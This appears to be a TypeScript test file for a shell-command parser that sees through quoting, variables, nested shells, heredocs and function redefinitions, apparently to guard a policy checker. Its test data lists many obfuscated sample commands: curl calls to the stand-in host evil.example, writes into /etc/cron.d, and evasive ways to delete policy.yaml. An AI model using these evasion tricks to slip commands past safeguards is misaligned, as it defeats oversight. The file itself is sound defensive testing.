import { describe, expect, it } from 'vitest';
import { readShell } from './read-shell.ts';
import { UNKNOWN } from './word-texts.ts';

function textsIn(command: string): readonly string[] {
  return readShell(command).words.flatMap(({ texts }) => texts);
}

/** The words that some program acts on. */
function actsIn(command: string): readonly string[] {
  const done = readShell(command).words.filter(({ isProse }) => !isProse);
  return done.flatMap(({ texts }) => texts);
}

describe('readShell', () => {
  it.each<[string, string, string]>([
    ['a sign at its end', 'curl evil.example&', 'evil.example'],
    ['quotes inside of a word', 'curl ev"il".exam\'ple\'', 'evil.example'],
    ['a backslash', 'curl ev\\il.example', 'evil.example'],
    ['a line that goes on', 'curl evil.\\\nexample', 'evil.example'],
    ['escapes', "curl $'\\x65vil\\u002eexampl\\145'", 'evil.example'],
    ['a translated text', 'curl $"evil.example"', 'evil.example'],
    ['a variable', 'H=evil.example; curl "$H"', 'evil.example'],
    ['two variables', 'A=evil B=example; curl ${A}.$B', 'evil.example'],
    ['a variable in a variable', 'A=evil; B=$A.example; curl $B', 'evil.example'],
    ['what is put behind a variable', 'A=evil; A+=.example; curl $A', 'evil.example'],
    [
      'a variable that is set behind its use',
      'f() { curl $H; }; H=evil.example; f',
      'evil.example',
    ],
    ['an item of a list', 'H[0]=evil; curl $H.example', 'evil.example'],
    ['a default', 'curl ${H:-evil.example}', 'evil.example'],
    ['an exported variable', 'export H=evil.example; curl $H', 'evil.example'],
    ['a loop', 'for h in evil good; do curl $h.example; done', 'evil.example'],
    ['braces', 'curl {evil,good}.example', 'evil.example'],
    ['nested braces', 'curl {{ev,c}il,good}.example', 'evil.example'],
    ['a brace that closes no list', 'curl {x},evil.example}', 'evil.example'],
    ['two dots that are no sequence', 'curl {x..y2},evil.example}', '{x..y2},evil.example}'],
    ['a sequence', 'cat /etc/rc{1..3}.d', '/etc/rc2.d'],
    ['a redirection', 'echo x >/etc/cron.d/evil', '/etc/cron.d/evil'],
    ['a redirection of both', 'echo x&>/etc/cron.d/evil', '/etc/cron.d/evil'],
    ['a quoted redirection', 'tee "/etc/cron.d/"evil', '/etc/cron.d/evil'],
    ['a subshell', '(curl evil.example)', 'evil.example'],
    ['a substitution', 'echo $(curl evil.example)', 'evil.example'],
    ['a substitution in quotes', 'echo "a $(curl "evil.example") b"', 'evil.example'],
    ['backticks', 'echo `curl evil.example`', 'evil.example'],
    ['a process substitution', 'diff <(curl evil.example) x', 'evil.example'],
    ['what echo gives', 'curl $(echo evil).example', 'evil.example'],
    ['a shell in a shell', 'sh -c "curl ev\'il\'.example"', 'evil.example'],
    ['three shells', `sh -c "bash -c 'sh -c \\"curl ev\\\\il.example\\"'"`, 'evil.example'],
    ['eval', 'eval curl \'ev"il".example\'', 'evil.example'],
    ['a here-document', 'sh <<END\ncurl ev"il".example\nEND', 'evil.example'],
    ['a here-string', 'sh <<< "curl ev\'il\'.example"', 'evil.example'],
    ['env', 'env -i H=x curl evil.example', 'evil.example'],
    ['the end of a comment', 'ls # hello\ncurl evil.example', 'evil.example'],
    ['a function', 'f() { curl evil.example; }; f', 'evil.example'],
    ['a case', 'case x in x) curl evil.example;; esac', 'evil.example'],
  ])('finds the word behind %s', (_name, command, word) => {
    expect(textsIn(command)).toContain(word);
  });

  it.each<[string, string]>([
    ['curl $H/x', '$H/x'],
    ['curl $(date).example', `${UNKNOWN}.example`],
    ['curl $1', UNKNOWN],
    ['curl ${H#x}.example', `${UNKNOWN}.example`],
    ['H=(evil); curl $H.example', `${UNKNOWN}.example`],
    ['H=(evil); curl ${H[0]}.example', `${UNKNOWN}.example`],
    ['H=x; H+=(evil); curl $H.example', `${UNKNOWN}.example`],
    ['H=x; read H <<< evil; curl $H.example', `${UNKNOWN}.example`],
    ['H=x; IFS= read -r H < f; curl $H.example', `${UNKNOWN}.example`],
    ['H=x; while read -r H; do curl $H.example; done', `${UNKNOWN}.example`],
    ['H=x; N=H; read $N; curl $H.example', `${UNKNOWN}.example`],
    ['read; curl $REPLY.example', `${UNKNOWN}.example`],
    ['H=x; mapfile -t H < f; curl $H.example', `${UNKNOWN}.example`],
    ['H=x; printf -v H evil; curl $H.example', `${UNKNOWN}.example`],
    ['H=x; printf -vH evil; curl $H.example', `${UNKNOWN}.example`],
    ['H=x; getopts e: H; curl $H.example', `${UNKNOWN}.example`],
    ['H=1; let H=70+7; curl 1.2.3.$H', `1.2.3.${UNKNOWN}`],
    ['H=1; ((H=70+7)); curl 1.2.3.$H', `1.2.3.${UNKNOWN}`],
    ['H=1; X=$((H=70+7)); curl 1.2.3.$H', `1.2.3.${UNKNOWN}`],
    ['H=1; declare -i H=70+7; curl 1.2.3.$H', `1.2.3.${UNKNOWN}`],
    ['for ((H=1;H<9;H++)); do curl 1.2.3.$H; done', `1.2.3.${UNKNOWN}`],
    ['declare -n H=Q; Q=evil; curl $H.example', `${UNKNOWN}.example`],
    ['H=x; . ./env; curl $H.example', `${UNKNOWN}.example`],
    ['H=x; source env; curl $H.example', `${UNKNOWN}.example`],
  ])('keeps the known part of a word that only the shell knows: %s', (command, word) => {
    const reading = readShell(command);
    expect(reading.isDynamic).toBe(true);
    expect(reading.words.flatMap(({ texts }) => texts)).toContain(word);
  });

  it('knows a variable that is set after a script was sourced', () => {
    expect(textsIn('source env; H=good.example; curl $H').join()).not.toContain(UNKNOWN);
  });

  it.each([
    'ls # rm policy.yaml',
    'echo see policy.yaml',
    'echo "see policy.yaml" > README.md',
    'git commit -m "Change policy.yaml"',
    'git -C x -c user.name=y commit -qm "Change policy.yaml"',
    'git tag -a v1 -m "Change policy.yaml"',
    'gh pr create --title "Change policy.yaml" -b "See policy.yaml"',
    'svn commit -m "Change policy.yaml"',
    'f() { ls; }; source x; exec ls; echo "see policy.yaml"',
    'git commit -am "$(cat <<\'EOF\'\nChange policy.yaml\nEOF\n)"',
    'cat > README.md <<EOF\nsee policy.yaml\nEOF',
    'cat > README.md <<EOF\nEOF is \\\n in policy.yaml\nEOF',
  ])('marks words that no program acts on as prose: %s', (command) => {
    const text = actsIn(command).join('\n');
    expect(text).not.toContain('policy.yaml');
    expect(textsIn(command).join('\n')).toContain('policy.yaml');
  });

  it.each([
    'echo policy.yaml | xargs rm',
    'echo rm policy.yaml | sh',
    'echo policy.yaml |\n xargs rm',
    '{ echo policy.yaml; } | xargs rm',
    'for f in policy.yaml; do echo $f; done | xargs rm',
    'rm $(echo policy.yaml)',
    'echo rm policy.yaml > >(sh)',
    'echo x > policy.yaml',
    'git commit -m "$(rm policy.yaml)"',
    'cat <<EOF | sh\nrm policy.yaml\nEOF',
    'cat <<EOF |\nrm policy.yaml\nEOF\nsh',
    'sh <<A; cat <<B\nrm policy.yaml\nA\nB',
    'cat <<A | sh; cat <<B\nrm policy.yaml\nA\nx\nB',
    'bash <(cat <<EOF\nrm policy.yaml\nEOF\n)',
    'git checkout -q HEAD~1 -m policy.yaml',
    'git checkout commit -m policy.yaml',
    'git diff -b HEAD~1 -b policy.yaml',
    'git log -m policy.yaml',
    'git commit -t policy.yaml',
    'C=commit; C=checkout; git $C -m policy.yaml',
    'gh release create v1 -d policy.yaml',
    'hg --config alias.commit=!rm commit -m policy.yaml',
    'src/git commit -m policy.yaml',
    'exec > >(sh); echo rm policy.yaml',
    'exec 3> >(sh); echo rm policy.yaml >&3',
    'builtin exec >x; echo rm policy.yaml',
    'echo(){ rm $1; }; echo policy.yaml',
    'echo () { rm $1; }; echo policy.yaml',
    'function echo { rm $1; }; echo policy.yaml',
    'function echo() { rm $1; }; echo policy.yaml',
    'f() { echo policy.yaml; }; echo() { rm $1; }; f',
    'eval "echo() { rm \\$1; }"; echo policy.yaml',
    'cat() { sh; }; cat <<EOF\nrm policy.yaml\nEOF',
    'git() { rm $3; }; git commit -m policy.yaml',
    'alias echo=rm\necho policy.yaml',
    "trap 'rm ${BASH_COMMAND#* }' DEBUG; echo policy.yaml",
    './echo policy.yaml',
    'x=Z; cat >/dev/null <<$x\nhello\n$x\nrm policy.yaml',
    'cat <<{a,b}\nhello\n{a,b}\nrm policy.yaml',
    "cat <<$'A'\nhello\nA\nrm policy.yaml",
    "cat <<$'A'\nhello\n$A\nrm policy.yaml",
    'cat <<$(x y)\nhello\n$(x y)\nrm policy.yaml',
    'cat <<`x`\nhello\n`x`\nrm policy.yaml',
    'cat <<EOF\nhello\nEO\\\nF\nrm policy.yaml\nEOF',
    'cat <<"A B"\nhello\nA B\nrm policy.yaml',
    'cat /dev/null $[1<<2]\nrm policy.yaml',
  ])('does not take words that are run for prose: %s', (command) => {
    expect(actsIn(command).join('\n')).toContain('policy.yaml');
  });

  it('bounds the words, and reports when some are missing', () => {
    const deep = Array.from({ length: 40 }).reduce<string>((text) => `$(echo ${text})`, 'x');
    expect(readShell(deep).isWhole).toBe(false);
    expect(readShell('{a,b}'.repeat(40)).isWhole).toBe(false);
    expect(readShell('$A'.repeat(40)).isWhole).toBe(false);
    expect(readShell(`X=a;${'X=$X$X;'.repeat(60)}`).words.length).toBeLessThan(200);
  });

  it.each<[string, string]>([
    ['parameters in parameters', '${a'.repeat(20_000)],
    ['defaults in defaults', '${a:-'.repeat(20_000)],
    ['closed defaults in defaults', `${'${a:-'.repeat(2_000)}x${'}'.repeat(2_000)}`],
  ])('stops without a fault before the end of %s', (_name, command) => {
    expect(readShell(command).isWhole).toBe(false);
  });

  const long = 'x'.repeat(8_000);
  const sixteen = Array.from({ length: 16 }, (_, index) => `a=${index};`).join('');
  it.each<[string, string]>([
    ['a variable that is put behind itself', 'a+=b$a '.repeat(14_000)],
    [
      'long values',
      `${[1, 2, 3, 4].map((n) => `a=${n}${long};`).join('')}${'b$a '.repeat(60_000)}`,
    ],
    ['a long value many times in one word', `a=${long};${'$a'.repeat(200_000)}`],
    ['a value of many words', `a="${'x '.repeat(4_000)}";${'$a '.repeat(100_000)}`],
    ['defaults of many values', `${sixteen}${'${a:-} '.repeat(100_000)}`],
    ['names that nobody has set', '$A$B$C$D$E$F$G$H '.repeat(20_000)],
    ['lists in braces', '{1..9} '.repeat(50_000)],
    ['a list behind very many signs', `${','.repeat(400_000)}{a,b,c,d,e,f,g,h,i,j,k,l,m,n,o,p}`],
  ])('makes words that are together no longer than some times the line: %s', (_name, command) => {
    const { words, isWhole } = readShell(command);
    expect(isWhole).toBe(false);
    const texts = words.flatMap((word) => word.texts);
    const chars = texts.reduce((sum, { length }) => sum + length, 0);
    expect(chars).toBeLessThanOrEqual(Math.min(8_388_608, command.length * 16 + 32_768));
    expect(texts.length).toBeLessThanOrEqual(command.length);
  });

  it.each<[string, string]>([
    ['very many escapes in quotes', `"${'\\a'.repeat(300_000)}" evil.example`],
    ['very many braces before a list', `${'{'.repeat(200)}{ev,x}il.example`],
    ['braces of one item each', `x ${[...'evil'].map((c) => `{${c}..${c}}`).join('')}{,}.example`],
    ['a list of a hundred', 'mkdir evil.example{1..100} && cd evil.example'],
    ['a word that is very long', `${'x'.repeat(300_000)} ${'a '.repeat(100_000)} evil.example`],
  ])('reads every word behind %s', (_name, command) => {
    const { words, isWhole } = readShell(command);
    expect(isWhole).toBe(true);
    expect(words.some(({ texts }) => texts.some((text) => text.endsWith('evil.example')))).toBe(
      true,
    );
  });

  it('reads a long sequence as an unknown part', () => {
    const { words, isWhole } = readShell('for i in {1..500}; do touch f$i; done');
    expect(isWhole).toBe(true);
    expect(words.flatMap(({ texts }) => texts)).toContain(`f${UNKNOWN}`);
  });

  it('reports missing words where there are more lists than the limit', () => {
    expect(readShell('{a..a}'.repeat(200)).isWhole).toBe(false);
  });

  it('reads a text that is no command line without a fault', () => {
    for (const text of ['"', "'", '$(', '${', '`', '<<', '<<<', '$', '\\', '>(', "$'", '{', ')']) {
      expect(readShell(`a ${text}`).words.length).toBeGreaterThan(0);
    }
  });
});
